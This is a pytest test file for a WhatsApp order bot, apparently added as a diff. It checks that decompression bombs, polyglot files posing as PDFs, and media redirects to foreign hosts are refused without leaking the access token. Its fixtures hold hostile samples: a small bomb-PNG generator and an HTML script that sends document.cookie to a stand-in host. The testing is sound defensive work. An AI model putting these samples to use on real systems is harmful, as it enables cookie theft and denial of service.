@@ -1,0 +1,349 @@
+"""Hostile and unlucky media: a decompression bomb gets a clear answer without being
+decoded and without stopping the event loop; a PDF reaches the jastiper only as an image
+of its first page (polyglots and ZIPs dressed as PDFs are refused); a download that
+fails is tried again with a fresh URL; the access token never goes to another host.
+
+The downloads run over HTTP against the fake Graph API and a second local server that
+stands for a foreign host; the bot tests run the real app on SQLite and Postgres."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from PIL import Image, ImageFile
+from pywa_async import WhatsApp
+from sqlalchemy import func, select
+
+from bot import simulate
+from bot.settings import Settings
+from bot.transport import build_wa_client
+from storage.demo import DEMO_PHONE
+from storage.models import Order, PaymentProof
+from storage.uploads import (
+    ForeignMediaHost,
+    UploadRejected,
+    download_media,
+    prepare_proof,
+)
+from tests.conftest import Harness
+from tests.fakes.foreign_host import ForeignHost
+from tests.fakes.graph_api import FakeGraphAPI
+from tests.test_buyer_journey import joined, jpeg, order_one
+from tests.test_uploads import PDF_SECRETS, png_chunk, receipt_pdf
+
+TOKEN = "hostile-media-token"
+NO_WAIT = (0.0, 0.0)  # the backoff between attempts, for tests of the attempts themselves
+
+
+# ------------------------------------------------------------------ files
+
+
+@pytest.fixture(scope="module")
+def bomb_png() -> bytes:
+    """The review's bomb: a real, valid 6,300 x 6,300 RGB PNG of about 120 KiB that
+    decodes to 119 MB of pixels."""
+    side = 6_300
+    row = b"\0" * (1 + side * 3)
+    packer = zlib.compressobj(9)
+    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
+    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
+    data = (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", ihdr)
+        + png_chunk(b"IDAT", idat)
+        + png_chunk(b"IEND", b"")
+    )
+    assert len(data) < 128 * 1024
+    return data
+
+
+def html_pdf_polyglot() -> bytes:
+    """Starts like a PDF, is an HTML page with a script for a browser."""
+    return (
+        b"%PDF-1.4\n<html><body><script>fetch('https://x.example/?c='+document.cookie)"
+        b"</script></body></html>\n%%EOF\n"
+    )
+
+
+def zip_with_pdf_header() -> bytes:
+    """A ZIP archive (an HTML file inside) behind a PDF header."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as archive:
+        archive.writestr("invoice.html", "<script>steal()</script>" * 20)
+    return b"%PDF-1.7\n" + buf.getvalue() + b"\n%%EOF\n"
+
+
+def big_photo() -> bytes:
+    """A WhatsApp HD photo's size (4096 x 3072, 12.6 MP): accepted, and slow to clean."""
+    img = Image.linear_gradient("L").resize((4096, 3072)).convert("RGB")
+    buf = io.BytesIO()
+    img.save(buf, "JPEG", quality=90)
+    return buf.getvalue()
+
+
+@pytest.fixture
+def loads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[tuple[int, int]]]:
+    """The size of every picture Pillow decodes (a spy on the real decoder)."""
+    seen: list[tuple[int, int]] = []
+    real_load = ImageFile.ImageFile.load
+
+    def spy(self: ImageFile.ImageFile) -> Any:
+        seen.append(self.size)
+        return real_load(self)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
+    yield seen
+
+
+# ------------------------------------------------------------------ decoding off the loop
+
+
+async def test_a_decompression_bomb_is_refused_before_a_pixel_is_decoded(
+    bomb_png: bytes, loads: list[tuple[int, int]]
+) -> None:
+    with pytest.raises(UploadRejected) as info:
+        await prepare_proof(bomb_png, "image/png")
+    assert info.value.reason == "too_many_pixels"
+    assert loads == []  # refused from the header: the 119 MB were never allocated
+
+
+async def test_the_event_loop_keeps_running_while_a_big_photo_is_cleaned(
+    loads: list[tuple[int, int]],
+) -> None:
+    photo = big_photo()
+    cleaning = asyncio.create_task(prepare_proof(photo, "image/jpeg"))
+    turns = 0
+    while not cleaning.done():  # another coroutine, taking turns on the same loop
+        turns += 1
+        await asyncio.sleep(0)
+    clean = await cleaning
+
+    assert (4096, 3072) in loads  # the photo really was decoded and re-encoded
+    with Image.open(io.BytesIO(clean.data)) as img:
+        assert img.size == (4096, 3072)
+    # on the loop, cleaning would run to its end in the task's first turn: the other
+    # coroutine would have had exactly one turn
+    assert turns > 10
+
+
+# ------------------------------------------------------------------ downloads
+
+
+@pytest.fixture
+async def graph() -> AsyncIterator[tuple[FakeGraphAPI, WhatsApp]]:
+    async with FakeGraphAPI.running(token=TOKEN) as fake, httpx.AsyncClient() as session:
+        settings = Settings(wa_access_token=TOKEN, wa_phone_id="1234", wa_api_base=fake.base_url)
+        yield fake, build_wa_client(settings, session)
+
+
+@pytest.fixture
+async def foreign() -> AsyncIterator[ForeignHost]:
+    async with ForeignHost.running() as host:
+        yield host
+
+
+async def test_an_expired_url_is_replaced_by_a_fresh_one(
+    graph: tuple[FakeGraphAPI, WhatsApp],
+) -> None:
+    fake, wa = graph
+    photo = jpeg()
+    media_id = fake.add_media(photo, "image/jpeg")
+    fake.expire_next_media_urls(1)
+
+    data, mime = await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)
+
+    assert (data, mime) == (photo, "image/jpeg")
+    assert fake.media_lookups == [media_id, media_id]  # a fresh URL for the second try
+    assert len(fake.media_downloads) == 2
+
+
+async def test_a_download_that_never_answers_is_tried_again(
+    graph: tuple[FakeGraphAPI, WhatsApp],
+) -> None:
+    fake, wa = graph
+    photo = jpeg("blue")
+    media_id = fake.add_media(photo, "image/jpeg")
+    fake.stall_next_media_downloads(1)
+
+    data, _ = await download_media(
+        wa, media_id, api_base=fake.base_url, backoff=NO_WAIT, attempt_timeout=0.5
+    )
+
+    assert data == photo
+    assert fake.media_lookups == [media_id, media_id]
+
+
+async def test_a_download_that_keeps_failing_gives_up_after_the_last_attempt(
+    graph: tuple[FakeGraphAPI, WhatsApp],
+) -> None:
+    fake, wa = graph
+    media_id = fake.add_media(jpeg(), "image/jpeg")
+    fake.expire_next_media_urls(3)
+
+    with pytest.raises(httpx.HTTPStatusError) as info:
+        await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)
+
+    assert info.value.response.status_code == 404
+    assert fake.media_lookups == [media_id] * 3
+
+
+async def test_a_media_url_on_another_host_is_never_requested(
+    graph: tuple[FakeGraphAPI, WhatsApp], foreign: ForeignHost
+) -> None:
+    fake, wa = graph
+    media_id = fake.add_media(jpeg(), "image/jpeg")
+    fake.media_url_base = foreign.base_url  # Meta (or whoever answers) points elsewhere
+
+    with pytest.raises(ForeignMediaHost):
+        await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)
+
+    assert foreign.requests == []
+    assert fake.media_lookups == [media_id] * 3
+
+
+async def test_a_redirect_to_another_host_is_not_followed(
+    graph: tuple[FakeGraphAPI, WhatsApp], foreign: ForeignHost
+) -> None:
+    fake, wa = graph
+    media_id = fake.add_media(jpeg(), "image/jpeg")
+    fake.redirect_media_to = foreign.base_url
+
+    with pytest.raises(ForeignMediaHost):
+        await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)
+
+    assert foreign.requests == [] and foreign.tokens_received == []
+    # the token went only to the Graph API's own origin, which answered with the redirect
+    assert [auth for _, auth in fake.media_downloads] == [f"Bearer {TOKEN}"] * 3
+
+
+def test_meta_media_hosts_come_from_the_environment(tmp_path: Path) -> None:
+    default = Settings.from_env({"JASTIPIN_DATA_DIR": str(tmp_path)})
+    assert default.wa_media_hosts == ("lookaside.fbsbx.com",)
+    custom = Settings.from_env(
+        {"JASTIPIN_DATA_DIR": str(tmp_path), "WA_MEDIA_HOSTS": " CDN-A.example , cdn-b.example"}
+    )
+    assert custom.wa_media_hosts == ("cdn-a.example", "cdn-b.example")
+
+
+# ------------------------------------------------------------------ through the bot
+
+
+async def _buyer_with_an_order(h: Harness) -> tuple[str, str]:
+    await h.seed_demo()
+    buyer = await joined(h)
+    await order_one(h, buyer, "Daiso Storage Box", "1")
+    async with h.db.read() as session:
+        code = (await session.execute(select(Order.code))).scalar_one()
+    return buyer, code
+
+
+def _stored_files(h: Harness) -> list[Path]:
+    root = h.settings.media_dir
+    return [p for p in root.rglob("*") if p.is_file() and p.name != ".health"]
+
+
+async def _proofs(h: Harness) -> int:
+    async with h.db.read() as session:
+        return int((await session.execute(select(func.count(PaymentProof.id)))).scalar_one())
+
+
+async def test_a_bomb_gets_a_clear_answer_and_nothing_is_kept(
+    harness: Harness, bomb_png: bytes
+) -> None:
+    h = harness
+    buyer, _ = await _buyer_with_an_order(h)
+    before = len(h.fake.sent_to(DEMO_PHONE))
+
+    media_id = h.fake.add_media(bomb_png, "image/png")
+    (answer,) = await h.send(simulate.media(buyer, "image", media_id, "image/png"))
+
+    assert "terlalu besar untuk dibuka" in answer["text"]["body"]
+    assert "16 megapiksel" in answer["text"]["body"]
+    assert _stored_files(h) == [] and await _proofs(h) == 0
+    assert len(h.fake.sent_to(DEMO_PHONE)) == before  # the jastiper is not bothered
+    # the buyer can go on: a real photo is accepted right after
+    (accepted,) = await h.send(
+        simulate.media(buyer, "image", h.fake.add_media(jpeg(), "image/jpeg"), "image/jpeg")
+    )
+    assert "sudah kami terima" in accepted["text"]["body"]
+
+
+async def test_a_pdf_proof_reaches_the_jastiper_only_as_its_first_page(harness: Harness) -> None:
+    h = harness
+    buyer, code = await _buyer_with_an_order(h)
+    pdf = receipt_pdf()
+
+    media_id = h.fake.add_media(pdf, "application/pdf", filename="bukti.pdf")
+    sent = await h.send(
+        simulate.media(buyer, "document", media_id, "application/pdf", filename="bukti.pdf")
+    )
+
+    assert "sudah kami terima" in sent[0]["text"]["body"]
+    forwarded = h.fake.sent_to(DEMO_PHONE)[-2]
+    assert forwarded["type"] == "image" and code in forwarded["image"]["caption"]
+    uploaded = h.fake.media[forwarded["image"]["id"]].data  # what the jastiper can open
+    (stored,) = _stored_files(h)
+    for data in (uploaded, stored.read_bytes()):
+        assert data.startswith(b"\xff\xd8\xff") and b"%PDF" not in data
+        for secret in PDF_SECRETS:
+            assert secret not in data
+        with Image.open(io.BytesIO(data)) as img:
+            assert img.format == "JPEG" and img.width > img.height  # the landscape page 1
+    async with h.db.read() as session:
+        proof = (await session.execute(select(PaymentProof))).scalar_one()
+    assert proof.mime_type == "image/jpeg"
+
+
+@pytest.mark.parametrize("make", [html_pdf_polyglot, zip_with_pdf_header])
+async def test_files_dressed_as_pdfs_are_refused(harness: Harness, make: Any) -> None:
+    h = harness
+    buyer, _ = await _buyer_with_an_order(h)
+    before = len(h.fake.sent_to(DEMO_PHONE))
+
+    media_id = h.fake.add_media(make(), "application/pdf", filename="bukti.pdf")
+    (answer,) = await h.send(
+        simulate.media(buyer, "document", media_id, "application/pdf", filename="bukti.pdf")
+    )
+
+    assert "rusak atau tidak bisa dibuka" in answer["text"]["body"]
+    assert _stored_files(h) == [] and await _proofs(h) == 0
+    assert len(h.fake.sent_to(DEMO_PHONE)) == before
+
+
+async def test_a_proof_whose_first_url_expired_is_still_accepted(harness: Harness) -> None:
+    h = harness
+    buyer, code = await _buyer_with_an_order(h)
+    media_id = h.fake.add_media(jpeg("navy"), "image/jpeg")
+    h.fake.expire_next_media_urls(1)
+
+    (answer,) = await h.send(simulate.media(buyer, "image", media_id, "image/jpeg"))
+
+    assert "sudah kami terima" in answer["text"]["body"]
+    assert h.fake.media_lookups.count(media_id) == 2
+    assert code in h.fake.sent_to(DEMO_PHONE)[-2]["image"]["caption"]
+    assert await _proofs(h) == 1
+
+
+async def test_a_redirect_elsewhere_is_not_followed_and_the_buyer_is_asked_again(
+    harness: Harness, foreign: ForeignHost
+) -> None:
+    h = harness
+    buyer, _ = await _buyer_with_an_order(h)
+    media_id = h.fake.add_media(jpeg("teal"), "image/jpeg")
+    h.fake.redirect_media_to = foreign.base_url
+
+    (answer,) = await h.send(simulate.media(buyer, "image", media_id, "image/jpeg"))
+
+    assert "gagal kami ambil" in answer["text"]["body"]
+    assert foreign.requests == []
+    assert h.fake.media_lookups.count(media_id) == 3  # every attempt with a fresh URL
+    assert await _proofs(h) == 0
